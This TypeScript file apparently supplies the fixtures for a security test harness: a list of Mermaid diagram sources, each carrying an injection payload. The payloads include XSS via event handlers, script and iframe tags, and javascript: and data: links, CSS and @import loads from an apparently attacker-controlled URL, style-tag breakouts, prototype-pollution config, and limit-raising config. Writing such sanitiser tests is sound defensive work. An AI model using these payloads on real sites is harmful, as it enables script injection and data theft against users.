import { enemy, type Recipe, zap } from "./payload.ts";

const flow = "flowchart LR\n";

/** Diagrams that lower the security level, run something when clicked, or load something. */
export const diagrams: readonly Recipe[] = [
  (mark) => `%%{init: {"securityLevel": "loose"}}%%\n${flow}A["<img src=x onerror=${zap(mark)}>"]`,
  (mark) =>
    `%%{init: {"securityLevel":"loose","flowchart":{"htmlLabels":true}}}%%\n${flow}A["<b onclick=${zap(mark)}>${mark}</b>"]`,
  (mark) =>
    `---\nconfig:\n  securityLevel: loose\n  htmlLabels: true\n---\n${flow}A["<svg onload=${zap(mark)}>"]`,
  (mark) =>
    `%%{init: {"secure": [], "securityLevel": "loose"}}%%\n${flow}A[${mark}]\nclick A call zap("${mark}")`,
  (mark) => `${flow}A[${mark}]\nclick A call zap("${mark}")`,
  (mark) => `${flow}A[${mark}]\nclick A "javascript:${zap(mark)}" "tip"`,
  (mark) => `${flow}A[${mark}]\nclick A href "${enemy(mark)}" _self`,
  (mark) => `${flow}A[${mark}]\nclick A href "data:text/html,<script>${zap(mark)}</script>" _blank`,
  (mark) => `${flow}A["<script>${zap(mark)}</script>${mark}"]`,
  (mark) => `${flow}A["<iframe src='${enemy(mark)}'></iframe>${mark}"]`,
  (mark) => `${flow}A["<img src='${enemy(mark)}'>${mark}"]`,
  (mark) => `${flow}A["#lt;img src=x onerror=${zap(mark)}#gt;"]`,
  (mark) => `${flow}A@{ img: "${enemy(mark)}", label: "${mark}", h: 60 }`,
  (mark) => `${flow}A[${mark}]\nstyle A fill:url(${enemy(mark)})`,
  (mark) => `${flow}A[${mark}]:::x\nclassDef x background:url(${enemy(mark)})`,
  (mark) => `${flow}A[${mark}] --> B\nlinkStyle 0 stroke:red,filter:url(${enemy(mark)})`,
  (mark) => `%%{init: {"themeCSS": "* {background: url(${enemy(mark)})}"}}%%\n${flow}A[${mark}]`,
  (mark) => `%%{init: {"themeCSS": "@import url(${enemy(mark)});"}}%%\n${flow}A[${mark}]`,
  (mark) => `%%{init: {"fontFamily": "x;}</style><img src=x onerror=${zap(mark)}>"}}%%\n${flow}A[${mark}]`,
  (mark) =>
    `%%{init: {"theme": "base", "themeVariables": {"primaryColor": "red;}</style><script>${zap(mark)}</script>"}}}%%\n${flow}A[${mark}]`,
  (mark) => `%%{init: {"__proto__": {"zapped": "${mark}"}}}%%\n${flow}A[${mark}]`,
  (mark) => `%%{init: {"constructor": {"prototype": {"zapped": "${mark}"}}}}%%\n${flow}A[${mark}]`,
  (mark) => `%%{init: {"maxTextSize": 99999999, "maxEdges": 99999999}}%%\n${flow}A[${mark}]`,
  (mark) =>
    `sequenceDiagram\nparticipant A as ${mark}<img src=x onerror=${zap(mark)}>\nA->>A: <svg onload=${zap(mark)}>`,
  (mark) => `sequenceDiagram\nparticipant A as ${mark}\nlink A: x @ javascript:${zap(mark)}\nA->>A: x`,
  (mark) => `sequenceDiagram\nparticipant A as ${mark}\nlinks A: {"x": "javascript:${zap(mark)}"}\nA->>A: x`,
  (mark) =>
    `classDiagram\nclass A["${mark} <img src=x onerror=${zap(mark)}>"]\nclick A href "javascript:${zap(mark)}"`,
  (mark) => `stateDiagram-v2\n[*] --> S\nS : ${mark} <img src=x onerror=${zap(mark)}>`,
  (mark) =>
    `gantt\ntitle ${mark} <img src=x onerror=${zap(mark)}>\nsection S\nT :t, 2026-01-01, 1d\nclick t call zap("${mark}")`,
  (mark) => `pie title ${mark} <img src=x onerror=${zap(mark)}>\n"<svg onload=${zap(mark)}>" : 1`,
  (mark) => `mindmap\n  root((${mark} <img src=x onerror=${zap(mark)}>))`,
  (mark) =>
    `journey\ntitle ${mark} <img src=x onerror=${zap(mark)}>\nsection S\nA: 5: <svg onload=${zap(mark)}>`,
  (mark) => `erDiagram\n"${mark} <img src=x onerror=${zap(mark)}>" ||--o{ B : "<svg onload=${zap(mark)}>"`,
  (mark) => `timeline\ntitle ${mark}\n2026 : <img src=x onerror=${zap(mark)}>`,
  (mark) =>
    `quadrantChart\ntitle ${mark} <img src=x onerror=${zap(mark)}>\n"<svg onload=${zap(mark)}>": [0.3, 0.6]`,
  (mark) => `gitGraph\ncommit id: "${mark} <img src=x onerror=${zap(mark)}>"`,
  (mark) => `no diagram at all <img src=x onerror=${zap(mark)}>`,
];
